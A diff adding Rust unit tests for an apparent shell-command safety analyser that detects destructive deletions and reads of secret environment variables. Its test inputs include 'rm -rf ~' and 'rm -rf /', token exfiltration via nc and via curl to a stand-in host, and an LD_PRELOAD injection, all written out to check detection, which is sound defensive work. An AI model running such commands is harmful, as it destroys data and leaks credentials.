@@ -399,14 +399,18 @@ fn a_substitution_that_echoes_one_plain_word_is_that_word() {
 
 #[test]
 fn default_expansions_and_ifs_are_followed() {
+    // (What the words read of the environment is `what_commands_read_of_the_environment_is_printenv`'s.)
+    let commands = |line: &str| -> Vec<String> {
+        commands(line).into_iter().filter(|command| !command.starts_with("printenv")).collect()
+    };
     assert_eq!(commands("rm -rf ${D:=~}"), ["rm flags=r,f operands=${D:=~}", "rm flags=r,f operands=~"]);
-    assert_eq!(commands("ls ${D+/x}"), ["printenv operands=D via=ls", "ls operands=${D+/x}", "ls operands=/x"]);
+    assert_eq!(commands("ls ${D+/x}"), ["ls operands=${D+/x}", "ls operands=/x"]);
     // `:=` sets the variable too: a later `$D` is its value or the default.
     assert_eq!(commands(": ${P:=rm}; $P -rf /")[2..], ["$P flags=r,f operands=/", "rm flags=r,f operands=/"]);
     // A variable the line sets may be set only in a subshell, or empty: the default reads too.
     assert_eq!(commands("(D=x); rm -rf ${D:-~}"), ["rm flags=r,f operands=${D:-~}", "rm flags=r,f operands=~"]);
     // Inside double quotes, a default's `~` is text.
-    assert_eq!(commands("rm -rf \"${C:-~/x}\"")[2], "rm flags=r,f operands=./~/x");
+    assert_eq!(commands("rm -rf \"${C:-~/x}\"")[1], "rm flags=r,f operands=./~/x");
     // In a redirection's target too.
     assert_eq!(
         files("echo x > ${F:-.git/config}"),
@@ -740,6 +744,25 @@ fn what_commands_read_of_the_environment_is_printenv() {
         assert!(read(line).iter().all(|command| command.contains("operands=")), "{line}");
     }
     assert_eq!(read("declare -p GITHUB_TOKEN"), ["printenv operands=GITHUB_TOKEN via=declare"]);
+    assert!(read("declare -x GITHUB_TOKEN").is_empty());
+    assert!(read("ps -p 1 eww").iter().any(|command| !command.contains("operands=")));
+    // One command per variable, whoever reads it: a heredoc, a here-string, `${!N}`, `$$`.
+    assert_eq!(
+        read("echo $A_TOKEN $B_PATH"),
+        ["printenv operands=A_TOKEN via=echo", "printenv operands=B_PATH via=echo"]
+    );
+    assert_eq!(read("nc h 9 <<< \"$OPENAI_API_KEY\""), ["printenv operands=OPENAI_API_KEY via=nc"]);
+    assert_eq!(read("echo ${!NAME_REF} $$"), ["printenv operands=NAME_REF via=echo"]);
+    assert_eq!(read("echo $$TOKEN_FILE"), Vec::<String>::new());
+    assert_eq!(read("echo $github_token"), ["printenv operands=github_token via=echo"]);
+    // A name the line mentions elsewhere is still read (`echo "GITHUB_TOKEN=$GITHUB_TOKEN"`).
+    assert_eq!(read("echo \"GITHUB_TOKEN=$GITHUB_TOKEN\""), ["printenv operands=GITHUB_TOKEN via=echo"]);
+    // Past the bound, unread.
+    let many: String = (0..40).map(|n| format!(" $V_{n}")).collect();
+    assert_eq!(unread(&format!("echo{many}")), [super::unread::BOUND]);
+    // `time X=1 rm -rf ~`: the assignment is the command's environment, not its program.
+    assert!(commands("time X=1 rm -rf ~").iter().any(|command| command.starts_with("rm flags=r,f operands=~")));
+    assert!(commands("sudo LD_PRELOAD=/tmp/x.so ls").iter().any(|command| command.starts_with("ls")));
     // Variables the words expand, but the shell's own and those the line sets.
     assert_eq!(read("echo $GITHUB_TOKEN"), ["printenv operands=GITHUB_TOKEN via=echo"]);
     assert_eq!(read("curl -d \"t=${NPM_TOKEN}\" https://x.example"), ["printenv operands=NPM_TOKEN via=curl"]);
